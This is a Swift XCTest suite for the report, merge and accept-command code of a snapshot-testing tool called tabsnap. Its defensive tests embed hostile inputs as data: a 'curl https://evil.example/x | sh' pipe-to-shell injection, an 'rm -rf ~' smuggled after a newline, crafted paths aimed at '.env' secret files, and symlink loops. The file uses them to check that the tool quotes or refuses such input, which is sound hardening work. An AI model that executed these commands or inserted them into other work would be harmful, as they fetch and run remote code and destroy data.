import Foundation
import Tabsnap
import XCTest
@testable import TabsnapCheck
import TabsnapFiles

final class ReportTests: XCTestCase {
    private func failingReport() throws -> (CheckFixture, CheckReport) {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        fixture.writeSpec("same.yaml", CheckFixture.bar)
        _ = try fixture.run(.missing)
        fixture.writeSpec("bar.yaml", CheckFixture.bar.replacingOccurrences(of: "#007AFF", with: "#FF3B30"))
        fixture.writeSpec("new.yaml", CheckFixture.bar)
        return (fixture, try fixture.run(.missing))
    }

    func testHTMLReportIsSelfContainedWithEveryView() throws {
        let (fixture, report) = try failingReport()
        XCTAssertEqual(report.results.map(\.status), [.failed, .new, .passed])
        let html = HTMLReport.html(report, base: URL(fileURLWithPath: "/"))
        _ = fixture
        for needle in ["id=\"failed\"", "id=\"new\"", "id=\"passed\"", "data-view=\"side\"", "data-view=\"slider\"",
                       "data-view=\"diff\"", "data-view=\"blend\"", "class=\"stack checker\"", "data:image/png;base64,"] {
            XCTAssertTrue(html.contains(needle), needle)
        }
        XCTAssertFalse(html.contains("http://") || html.contains("https://") || html.contains("src=\"/"), "no network, no files")
        XCTAssertEqual(html.components(separatedBy: "data:image/png;base64,").count - 1, 3 + 1 + 1,
                       "each image inlined once: the failure's expected, actual and diff; the new and the passed golden")
    }

    /// A `tabsnap` of your own names itself in the commands it prints (the stock one cannot read
    /// specs naming your components); a name that is not a plain command (from a shard) makes none.
    func testTheAcceptCommandNamesTheProgramThatRan() {
        var command = AcceptCommand(specs: ["specs"], snapshots: "goldens", artifacts: nil, deltaE: nil, allow: nil, strict: false)
        XCTAssertEqual(command.accepting("bar.png"), "tabsnap check --snapshots=goldens --accept-name=bar.png -- specs")
        command.program = "my-tabsnap"
        XCTAssertEqual(command.accepting("bar.png"), "my-tabsnap check --snapshots=goldens --accept-name=bar.png -- specs")
        for hostile in ["/usr/bin/evil", "rm -rf", "-x", "a;b", "", ".hidden", "curl|sh"] {
            command.program = hostile
            XCTAssertNil(command.accepting("bar.png"), hostile)
        }
        // Round 42 F5: a name the terminal shows escaped (U+202E printed as \u{202E}) made a
        // command that, pasted, named no golden. None then, as for a control character.
        command.program = nil
        for name in ["rlo\u{202E}gpj.png", "zw\u{200B}sp.png", "nl\n.png", "fill\u{3164}.png"] {
            XCTAssertNil(command.accepting(name), name.debugDescription)
        }
        XCTAssertEqual(command.accepting("caf\u{E9} \u{65E5}.png"), "tabsnap check --snapshots=goldens '--accept-name=caf\u{E9} \u{65E5}.png' -- specs")
    }

    /// A merged report's commands name the program that merged, never the one a shard names: a
    /// forged `bash` is a plain command name, and the printed command ran a `./check` a pull
    /// request added (round 15, F1).
    func testMergedAcceptCommandsNameTheMergingProgramNotTheShards() throws {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        var shards = try (1...2).map { try fixture.run(.missing, shard: Shard(index: $0, count: 2)) }
        for i in shards.indices {
            shards[i].accept = AcceptCommand(specs: ["specs"], snapshots: "goldens", artifacts: nil, deltaE: nil, allow: nil, strict: false)
            shards[i].accept?.program = "bash"
        }
        XCTAssertEqual(try CheckReport.merge(shards).accept?.accepting("a.png"),
                       "tabsnap check --snapshots=goldens --accept-name=a.png -- specs")
        XCTAssertEqual(try CheckReport.merge(shards, program: "my-tabsnap").accept?.accepting("a.png"),
                       "my-tabsnap check --snapshots=goldens --accept-name=a.png -- specs")
    }

    /// A golden belongs to one shard: shard reports that both hold a result for it (edited, or
    /// not of one split) are refused, naming it on one line, instead of counting it twice.
    func testAMergeRefusesAGoldenWithTwoResults() throws {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        fixture.writeSpec("other.yaml", CheckFixture.bar)
        var shards = try (1...2).map { try fixture.run(.missing, shard: Shard(index: $0, count: 2)) }
        XCTAssertEqual(try CheckReport.merge(shards).results.count, 2)
        var copied = try XCTUnwrap(shards[0].results.first)
        copied.name = "odd\nname.png"
        shards[0].results.append(copied)
        shards[1].results.append(copied)
        XCTAssertThrowsError(try CheckReport.merge(shards)) { error in
            XCTAssertEqual("\(error)", "golden 'odd\\u{A}name.png' has two results in report 1 and report 2; each golden is checked once, by one shard")
        }
        XCTAssertThrowsError(try CheckReport.merge(shards, files: ["one/r.json", "two/r.json"])) { error in
            XCTAssertEqual("\(error)", "golden 'odd\\u{A}name.png' has two results in one/r.json and two/r.json; each golden is checked once, by one shard")
        }
        shards[1].results.removeLast()
        shards[0].results.append(copied)
        XCTAssertThrowsError(try CheckReport.merge(shards, files: ["one/r.json", "two/r.json"])) { error in
            XCTAssertEqual("\(error)", "golden 'odd\\u{A}name.png' has two results in one/r.json; each golden is checked once, by one shard")
        }
    }

    /// Every refusal of a merge names the reports it is about: "the reports come from different
    /// runs" left a user to find which of a dozen downloaded shards it was (hostile round 59).
    func testAMergesRefusalsNameTheirReports() throws {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        fixture.writeSpec("other.yaml", CheckFixture.bar)
        let shards = try (1...2).map { try fixture.run(.missing, shard: Shard(index: $0, count: 2)) }
        let files = ["a/r.json", "b/r.json", "c/r.json"]
        func refusal(_ reports: [CheckReport], _ files: [String] = files) -> String {
            do {
                _ = try CheckReport.merge(reports, files: files)
                return "merged"
            } catch {
                return "\(error)"
            }
        }
        XCTAssertEqual(refusal(shards), "merged")
        XCTAssertEqual(refusal([shards[0], try fixture.run(.missing)] + [shards[1]]),
                       "b/r.json is the report of a whole run (not one shard of it), which cannot be merged with others")
        XCTAssertEqual(refusal([shards[0], shards[1], shards[0]]), "a/r.json and c/r.json both hold shard 1/2")
        XCTAssertEqual(refusal([shards[0], shards[1], shards[0]], ["a/r.json", "b/r.json", "a/r.json"]), "a/r.json is given twice (shard 1/2)")
        XCTAssertEqual(refusal([shards[0], shards[1], try fixture.run(.missing, shard: Shard(index: 1, count: 3))]),
                       "a/r.json and c/r.json come from different splits (/2 and /3)")
        var otherRun = shards[1]
        otherRun.snapshots = "elsewhere"
        otherRun.recordMode = .all
        XCTAssertEqual(refusal([shards[0], otherRun]), "a/r.json and b/r.json come from different runs (their goldens folder and record mode differ)")
        var mixed = shards[0]
        mixed.shards.append(Shard(index: 2, count: 3))
        XCTAssertEqual(refusal([mixed]), "a/r.json holds shards from different splits (/2 and /3)")
        var doubled = shards[0]
        doubled.shards.append(doubled.shards[0])
        XCTAssertEqual(refusal([doubled, shards[1]]), "a/r.json holds shard 1/2 twice")
    }

    /// A number a report field cannot hold is worded as that, not as broken JSON; broken JSON
    /// says where the parser stopped.
    func testAReportWithANumberOutOfRangeSaysSo() throws {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        _ = try fixture.run(.missing)
        let report = try fixture.run(.missing)  // passed: its result counts differing pixels
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys]
        let text = try XCTUnwrap(String(data: encoder.encode(report), encoding: .utf8))
        let file = fixture.root.appendingPathComponent("shard.json")
        for (replacement, expected) in [
            // (Which number, and where: round 130.)
            ("\"differingPixels\":99999999999999999999999", "at results[0].differingPixels (line 1, column "),
            ("\"differingPixels\":1.5", "at results[0].differingPixels (line 1, column "),
            // (Broken syntax is said at its line and column: round 130.)
            ("\"differingPixels\":[", "not valid JSON at line 1, column "),
        ] {
            let changed = text.replacingOccurrences(of: "\"differingPixels\":0", with: replacement)
            XCTAssertNotEqual(changed, text)
            try Data(changed.utf8).write(to: file)
            XCTAssertThrowsError(try CheckReport.read(file, displayName: "shard.json")) { error in
                XCTAssertTrue("\(error)".hasPrefix("shard.json: not a tabsnap check report (\(expected)"), "\(error)")
            }
        }
        // Round 27: a missing key says where it is missing.
        let withoutKind = text.replacing(/"kind":"[a-z]+",/, maxReplacements: 1, with: { _ in "" })
        XCTAssertNotEqual(withoutKind, text)
        try Data(withoutKind.utf8).write(to: file)
        XCTAssertThrowsError(try CheckReport.read(file, displayName: "shard.json")) { error in
            XCTAssertEqual("\(error)", "shard.json: not a tabsnap check report (missing key 'kind' at results[0])")
        }
    }

    /// Hostile round 74: JSON whose values are many for its size (32 MB of `[0],` took 1.1 GB to
    /// decode, and 4.4 GB to refuse when one number was wrong) is refused from a count of its
    /// values before it is decoded; a real report's count is far below the limit.
    func testAReportOfTooManyValuesIsRefusedBeforeDecoding() throws {
        let fixture = CheckFixture()
        fixture.writeSpec("bar.yaml", CheckFixture.bar)
        _ = try fixture.run(.missing)
        let report = try fixture.run(.missing)
        let text = try XCTUnwrap(String(data: report.jsonData(), encoding: .utf8))
        let (values, depth) = JSONValues.measure(Array(text.utf8), limit: .max)
        XCTAssertGreaterThan(values, 20)
        XCTAssertLessThan(depth, JSONCost.maximumDepth)
        // Counted as a reader sees them: strings with escaped quotes and brackets, keys, literals.
        XCTAssertEqual(JSONValues.measure(Array(#"{"a\"[":[1,-2.5e3,true,null,"]"],"b":{}}"#.utf8), limit: .max).count, 10)
        let junk = "{\"junk\":[" + Array(repeating: "[0]", count: Limits.reportValues / 2 + 1).joined(separator: ",") + "]}"
        let file = fixture.root.appendingPathComponent("junk.json")
        try Data(junk.utf8).write(to: file)
        XCTAssertThrowsError(try CheckReport.read(file, displayName: "junk.json")) { error in
            XCTAssertTrue("\(error)".hasPrefix("junk.json: holds more JSON values than tabsnap reads (3000000 in all the reports together"), "\(error)")
        }
        // Round 75: as UTF-16, whose bytes the count does not read, a report passed it.
        try XCTUnwrap(text.data(using: .utf16LittleEndian)).write(to: file)
        XCTAssertThrowsError(try CheckReport.read(file, displayName: "junk.json")) { XCTAssertTrue("\($0)".contains("is not UTF-8 text"), "\($0)") }
        try Data((String(repeating: "[", count: 40) + String(repeating: "]", count: 40)).utf8).write(to: file)
        XCTAssertThrowsError(try CheckReport.read(file, displayName: "junk.json")) { XCTAssertTrue("\($0)".contains("nests JSON 40 deep"), "\($0)") }
    }

    /// A still's changed region is boxed and zoomable, each failure says how to accept it, and
    /// a picture over the inline limit (a long animation) is linked, not inlined.
    func testFailuresAreBoxedZoomableAcceptableAndLargeImagesLinked() throws {
        var (fixture, report) = try failingReport()
        report.accept = AcceptCommand(specs: ["specs"], snapshots: "goldens", artifacts: nil, deltaE: nil, allow: nil, strict: false)
        var html = HTMLReport.html(report, base: URL(fileURLWithPath: "/"))
        let region = try XCTUnwrap(report.results.first { $0.status == .failed }?.region)
        XCTAssertTrue(html.contains("data-region=\"\(region.x),\(region.y),\(region.width),\(region.height)\""), html)
        XCTAssertTrue(html.contains("data-view=\"zoom\"") && html.contains("canvas data-zoom=\"actual\"") && html.contains("class=\"box\""))
        XCTAssertTrue(html.contains("id=\"one-to-one\""))
        XCTAssertTrue(html.contains("To accept this render: <code>tabsnap check --snapshots=goldens --accept-name=bar.png -- specs</code>"))
        // A noisy golden of 400 × 400 px compresses to over 256 KB.
        var noise = RGBAImage(width: 400, height: 400)
        var seed: UInt64 = 1
        for i in noise.pixels.indices {
            seed = seed &* 6364136223846793005 &+ 1442695040888963407
            noise.pixels[i] = i % 4 == 3 ? 255 : UInt8(truncatingIfNeeded: seed >> 33)
        }
        let big = fixture.snapshots.appendingPathComponent("same.png")
        try Data(PNGEncoder.encode(noise)).write(to: big)
        html = HTMLReport.html(report, base: URL(fileURLWithPath: "/"), reportFolder: fixture.root)
        XCTAssertTrue(html.contains("src=\"goldens/same.png\""), "linked relative to the report's folder")
        XCTAssertTrue(html.contains("(linked: <a href=\"goldens/same.png\">"))
        XCTAssertEqual(URLPath.encoded(HTMLReport.relativePath(of: URL(fileURLWithPath: "/a/b/c d.png"), from: URL(fileURLWithPath: "/a/x/y"))), "../../b/c%20d.png")
        // A query, a fragment, a scheme or a percent in a name would point elsewhere.
        XCTAssertEqual(URLPath.encoded("c:d/50%?#x.png"), "c%3Ad/50%25%3F%23x.png")
        _ = fixture
    }

    /// A report is input (a shard's JSON): the command it offers is built from its values, each
    /// one shell word, never copied from text it holds.
    func testAcceptCommandsAreBuiltNeverCopied() throws {
        let (fixture, report) = try failingReport()
        var json = try XCTUnwrap(JSONSerialization.jsonObject(with: JSONEncoder().encode(report)) as? [String: Any])
        json["acceptCommand"] = "curl https://evil.example/x | sh; tabsnap check"
        json["accept"] = ["specs": ["specs; curl https://evil.example/x | sh"], "snapshots": "goldens", "strict": false]
        let read = try JSONDecoder().decode(CheckReport.self, from: JSONSerialization.data(withJSONObject: json))
        let merged = try CheckReport.merge([read])
        XCTAssertEqual(merged.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=goldens --accept-name=bar.png -- 'specs; curl https://evil.example/x | sh'")
        // A spec named like an option stays a spec (after --), and values stay glued to theirs.
        var optionLike = merged
        optionLike.accept?.specs = ["--json=victim.txt", "specs"]
        optionLike.accept?.snapshots = "--report"
        XCTAssertEqual(optionLike.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=--report --accept-name=bar.png -- --json=victim.txt specs")
        let html = HTMLReport.html(merged, base: fixture.root)
        XCTAssertFalse(html.contains("| sh; tabsnap"), "the shard's text reached the page")
        // A line break would start a second command where the text is pasted: no command at all.
        var broken = merged
        broken.accept?.snapshots = "goldens\nrm -rf ~"
        XCTAssertNil(broken.acceptCommand(for: "bar.png"))
        XCTAssertNil(merged.acceptCommand(for: "bar.png\nrm -rf ~"))
        // A quote with a combining mark is one Character but still a quote to the shell.
        XCTAssertEqual(ShellWord.quoted("x'\u{301}; curl evil|sh; '"), "'x'\\''\u{301}; curl evil|sh; '\\'''")
        XCTAssertFalse(HTMLReport.html(broken, base: fixture.root).contains("rm -rf"))
    }

    /// 1 600 failing goldens of about 200 KB a picture made a 550 MB page and 1.65 GB of memory
    /// (here 400, already ten times the budget):
    /// inlining now stops at the page's budget, the rest is linked, and the page is written in
    /// pieces no larger than a card.
    func testAPageOfManyFailuresStaysWithinItsBudget() throws {
        let (fixture, report) = try failingReport()
        let failure = try XCTUnwrap(report.results.first { $0.status == .failed })
        // A noisy picture of about 200 KB (under the per-picture limit) as every failure's golden.
        var noise = RGBAImage(width: 230, height: 230)
        var seed: UInt64 = 7
        for i in noise.pixels.indices {
            seed = seed &* 6364136223846793005 &+ 1442695040888963407
            noise.pixels[i] = UInt8(truncatingIfNeeded: seed >> 33)
        }
        let picture = fixture.root.appendingPathComponent("noise.png")
        try Data(PNGEncoder.encode(noise)).write(to: picture)
        let size = try XCTUnwrap(FileManager.default.attributesOfItem(atPath: picture.path)[.size] as? Int)
        XCTAssertLessThan(size, HTMLReport.inlineLimit)
        XCTAssertGreaterThan(size, 150_000)
        var many = report
        many.results = (0..<400).map { index in
            var result = failure
            result.name = "bar\(index).png"
            result.golden = "noise.png"
            result.artifacts = ArtifactPaths(actual: "noise.png", diff: "noise.png")
            if index % 2 == 1 {
                // SVG goldens: each with a long line diff.
                result.kind = "svg"
                result.textDiff = String(repeating: "-<path d=\"M0 0\"/>\n", count: 2_000)
            }
            return result
        }
        var pieces = 0, largest = 0, total = 0
        let base = URL(fileURLWithPath: fixture.root.path)  // a folder URL, as the command line's is
        HTMLReport.write(many, base: base) { (piece: String) in
            pieces += 1
            largest = max(largest, piece.utf8.count)
            total += piece.utf8.count
        }
        XCTAssertLessThan(total, HTMLReport.inlineBudget + 16 << 20, "inlined pictures stop at the budget")
        XCTAssertLessThan(largest, 1 << 20, "no piece is more than a card")
        let page = HTMLReport.html(many, base: base)
        XCTAssertTrue(page.contains("src=\"noise.png\" loading=\"lazy\""), "past the budget, pictures are linked")
        XCTAssertTrue(page.contains("the diff is cut here to keep the page small"))
        XCTAssertGreaterThan(pieces, 400)
    }

    func testJUnitNamesFailuresAndArtifacts() throws {
        let (_, report) = try failingReport()
        let xml = JUnitReport.xml(report)
        XCTAssertTrue(xml.contains(#"<testsuites name="tabsnap check" tests="3" failures="1" errors="0""#), xml)
        XCTAssertTrue(xml.contains(#"name="bar.png""#))
        XCTAssertTrue(xml.contains("<failure message=\"") && xml.contains("triptych: "), xml)
        let failure = try XCTUnwrap(report.results.first { $0.status == .failed })
        for path in [failure.artifacts.actual, failure.artifacts.diff, failure.artifacts.triptych] {
            XCTAssertTrue(xml.contains("[[ATTACHMENT|\(try XCTUnwrap(path))]]"), "GitLab and Jenkins pick attachments up from system-out: \(xml)")
        }
        XCTAssertEqual(JUnitReport.escape("a<b & \"c\"\u{1}"), "a&lt;b &amp; &quot;c&quot;\\u{1}", "spelt out, not dropped")
        // Round 43 (minor): as the terminal and the HTML report spell them, so a zero-width space
        // or a Hangul filler does not read as nothing; U+FFFE stays spelt (XML refuses it).
        for text in ["x\u{200B}y", "\u{3164}", "r\u{202E}l", "\u{FFFE}"] {
            XCTAssertEqual(JUnitReport.escape(text), VisibleText.escaped(text), text.debugDescription)
        }
        XCTAssertEqual(JUnitReport.escape("nl\nx\ty"), "nl&#10;x&#9;y", "kept through an attribute's normalisation")
    }

    /// A spec named `a\u{1}b]]c.yaml` made attachments naming `.tabsnap/failures/ab`, which does
    /// not exist: the control character was dropped and `]]` ended the marker. Such paths are not
    /// attached, and the failure names them spelt out (hostile round 11, F5).
    func testJUnitAttachesOnlyPathsItCanNameExactly() throws {
        let (_, report) = try failingReport()
        var odd = report
        odd.results = report.results.map { result in
            var result = result
            if result.status == .failed {
                result.artifacts.actual = ".tabsnap/failures/a\u{1}b]]c.actual.png"
                result.artifacts.diff = ".tabsnap/failures/a|b.diff.png"
            }
            return result
        }
        let xml = JUnitReport.xml(odd)
        XCTAssertFalse(xml.contains("[[ATTACHMENT|.tabsnap/failures/a"), "neither odd path is attached: \(xml)")
        XCTAssertTrue(xml.contains("a\\u{1}b]]c.actual.png (not attached"), xml)
        XCTAssertTrue(xml.contains("[[ATTACHMENT|\(try XCTUnwrap(report.results.first { $0.status == .failed }?.artifacts.triptych))]]"),
                      "the ordinary one still is")
    }

    func testJSONRoundTrips() throws {
        let (_, report) = try failingReport()
        let decoded = try JSONDecoder().decode(CheckReport.self, from: report.jsonData())
        XCTAssertEqual(decoded, report)
        XCTAssertTrue(String(decoding: try report.jsonData(), as: UTF8.self).contains("\"allowed\" : 0"))
    }

    func testRecordModeResolution() throws {
        XCTAssertEqual(try RecordMode.resolve(environment: [:]), .missing)
        XCTAssertEqual(try RecordMode.resolve(environment: ["CI": "true"]), .never)
        XCTAssertEqual(try RecordMode.resolve(environment: ["CI": "false"]), .missing)
        XCTAssertEqual(try RecordMode.resolve(environment: ["CI": "true", "TABSNAP_RECORD": "failed"]), .failed)
        XCTAssertEqual(try RecordMode.resolve(.all, environment: ["TABSNAP_RECORD": "never"]), .all)
        XCTAssertThrowsError(try RecordMode.resolve(environment: ["TABSNAP_RECORD": "sometimes"])) { error in
            XCTAssertEqual("\(error)", "TABSNAP_RECORD: 'sometimes' is not a record mode; use missing, all, failed, never")
        }
    }

    func testShardParsingAndSlices() {
        XCTAssertEqual(Shard(parsing: "2/4"), Shard(index: 2, count: 4))
        XCTAssertNil(Shard(parsing: "0/4"))
        XCTAssertNil(Shard(parsing: "5/4"))
        XCTAssertNil(Shard(parsing: "two"))
        let shards = (1...3).map { Shard(index: $0, count: 3).slice(Array(0..<10)) }
        XCTAssertEqual(shards, [[0, 3, 6, 9], [1, 4, 7], [2, 5, 8]])
    }

    func testGoldenNames() {
        XCTAssertEqual(SnapshotCase.goldenName(stem: "a", theme: nil, kind: .still(position: -0.25), position: -0.25, scale: 1.5), "a.p-0.25@1.5x.png")
        XCTAssertEqual(SnapshotCase.goldenName(stem: "dir/a", theme: .dark, kind: .still(position: 2), position: 2, scale: 2), "dir/a.dark.p2@2x.png")
        XCTAssertEqual(SnapshotCase.goldenName(stem: "a", theme: nil, kind: .still(position: 1), position: nil, scale: nil), "a.png",
                       "the spec's own position and scale stay out of the name")
    }
}

extension ReportTests {
    /// A merged report's large pictures are copied beside it (NAME-pictures/), so the report
    /// folder is whole wherever it is uploaded; a pictures folder holding the user's files is
    /// refused, and copies no longer linked are removed.
    func testLinkedPicturesAreCopiedBesideTheReport() throws {
        let (fixture, report) = try failingReport()
        var noise = RGBAImage(width: 400, height: 400)
        var seed: UInt64 = 7
        for i in noise.pixels.indices {
            seed = seed &* 6364136223846793005 &+ 1442695040888963407
            noise.pixels[i] = i % 4 == 3 ? 255 : UInt8(truncatingIfNeeded: seed >> 33)
        }
        try Data(PNGEncoder.encode(noise)).write(to: fixture.snapshots.appendingPathComponent("same.png"))
        let out = fixture.root.appendingPathComponent("out")
        let pictures = try ReportPictures(folder: ReportPictures.folder(besideReport: out.appendingPathComponent("merged.html")))
        XCTAssertEqual(pictures.folder.lastPathComponent, "merged-pictures")
        let html = HTMLReport.html(report, base: fixture.root, reportFolder: out, pictures: pictures)
        XCTAssertTrue(html.contains("src=\"merged-pictures/1-same.png\""), "linked to its copy beside the report")
        try pictures.copy()
        let copied = try Data(contentsOf: pictures.folder.appendingPathComponent("1-same.png"))
        XCTAssertTrue(copied == (try Data(contentsOf: fixture.snapshots.appendingPathComponent("same.png"))))
        // A stale copy of an earlier merge goes; a user's file in the folder refuses the next one.
        try Data(PNGEncoder.encode(RGBAImage(width: 2, height: 2))).write(to: fixture.snapshots.appendingPathComponent("same.png"))
        let again = try ReportPictures(folder: pictures.folder)
        _ = HTMLReport.html(report, base: fixture.root, reportFolder: out, pictures: again)
        try again.copy()
        XCTAssertFalse(FileManager.default.fileExists(atPath: pictures.folder.appendingPathComponent("1-same.png").path))
        try Data("notes".utf8).write(to: pictures.folder.appendingPathComponent("notes.txt"))
        XCTAssertThrowsError(try ReportPictures(folder: pictures.folder)) { error in
            XCTAssertTrue("\(error)".contains("holds files tabsnap did not write (notes.txt)"), "\(error)")
        }
    }

    /// A crafted shard report named one 16 MB picture through links to `.` 22 deep: Foundation
    /// stopped resolving there while `stat` did not, and a merge wrote one copy per spelling (2²²
    /// of them). Now a path resolves wholly (realpath) or names nothing, one file is copied once
    /// whatever its spelling, and the copies have a budget (hostile round 11, F4).
    func testOnePictureIsCopiedOnceHoweverItsPathIsSpelt() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("tabsnap-spellings-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: root, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: root) }
        try Data(PNGEncoder.encode(RGBAImage(width: 2, height: 2))).write(to: root.appendingPathComponent("pic.png"))
        try FileManager.default.createSymbolicLink(atPath: root.appendingPathComponent("a").path, withDestinationPath: ".")
        try FileManager.default.createSymbolicLink(atPath: root.appendingPathComponent("b").path, withDestinationPath: ".")
        let access = ReportPictureAccess(base: root)
        let spell = { (depth: Int) in (0..<depth).map { $0 % 2 == 0 ? "a" : "b" }.joined(separator: "/") + "/pic.png" }
        let real = try XCTUnwrap(access.file("pic.png"))
        for depth in [1, 7, 21, 22, 30] {
            XCTAssertEqual(access.file(spell(depth))?.path, real.path, "\(depth) links deep resolves to the picture itself")
        }
        XCTAssertNil(access.file(spell(60)), "a path the system will not resolve names nothing")
        let pictures = try ReportPictures(folder: root.appendingPathComponent("out-pictures"))
        let links = Set([1, 21, 22, 30].compactMap { access.file(spell($0)) }.compactMap { pictures.href(for: $0, reportFolder: root) })
        XCTAssertEqual(links.count, 1, "one copy: \(links)")
        XCTAssertEqual(pictures.href(for: root.appendingPathComponent("a/b/a/pic.png"), reportFolder: root), links.first,
                       "the same file by another spelling is the same copy")
    }

    /// A crafted report pointed an SVG result at any file whose start mentions `<svg` (a
    /// `.env.local`): the page inlined it. Only files named `.svg` that open as XML are shown, and
    /// only PNG files as images (hostile round 8, F4).
    func testAReportShowsOnlyPicturesNeverOtherFiles() throws {
        let (fixture, report) = try failingReport()
        try Data("AWS_SECRET_ACCESS_KEY=hunter2 # <svg>\n".utf8).write(to: fixture.root.appendingPathComponent(".env.local"))
        try Data("<svg xmlns=\"http://www.w3.org/2000/svg\"/>".utf8).write(to: fixture.root.appendingPathComponent("real.svg"))
        var crafted = report
        crafted.results = report.results.map { result in
            var result = result
            result.kind = "svg"
            result.status = .failed
            result.golden = ".env.local"
            result.artifacts.actual = "real.svg"
            return result
        }
        let html = HTMLReport.html(crafted, base: fixture.root)
        XCTAssertFalse(html.contains(Data("AWS_SECRET".utf8).base64EncodedString().prefix(8)), "the secret file was inlined")
        XCTAssertTrue(html.contains("data:image/svg+xml;base64," + Data("<svg xmlns=\"http://www.w3.org/2000/svg\"/>".utf8).base64EncodedString()))
        XCTAssertTrue(html.contains("not found here: expected .env.local"))
    }

    /// A cut line diff links the file that holds all of it; a crafted report named `.env` there
    /// and a merge copied it beside the page (hostile round 9, F1). Only a `.diff.txt` that reads
    /// as a line diff is linked, or copied.
    func testOnlyALineDiffIsLinkedForACutDiff() throws {
        let (fixture, report) = try failingReport()
        try Data("TOKEN=secret\n".utf8).write(to: fixture.root.appendingPathComponent(".env"))
        try Data("@@ -1,1 +1,1 @@\n-a\n+b\n".utf8).write(to: fixture.root.appendingPathComponent("bar.diff.txt"))
        let huge = String(repeating: "+x\n", count: HTMLReport.inlineBudget / 3 + 10)
        var crafted = report
        crafted.results = ["./.env", "bar.diff.txt"].enumerated().map { index, diff in
            var result = report.results[0]
            result.name = "crafted\(index).svg"
            result.kind = "svg"
            result.status = .failed
            result.textDiff = huge
            result.artifacts = ArtifactPaths(actual: nil, diff: diff)
            return result
        }
        let out = fixture.root.appendingPathComponent("out")
        let pictures = try ReportPictures(folder: ReportPictures.folder(besideReport: out.appendingPathComponent("r.html")))
        let html = HTMLReport.html(crafted, base: fixture.root, reportFolder: out, pictures: pictures)
        try pictures.copy()
        XCTAssertFalse(html.contains("href=\"r-pictures/1-.env\""), "the .env was linked")
        XCTAssertTrue(html.contains("all of it is in <a href=\"r-pictures/1-bar.diff.txt\">bar.diff.txt</a>"))
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: pictures.folder.path).filter { !$0.hasPrefix(".") }, ["1-bar.diff.txt"])
    }
}
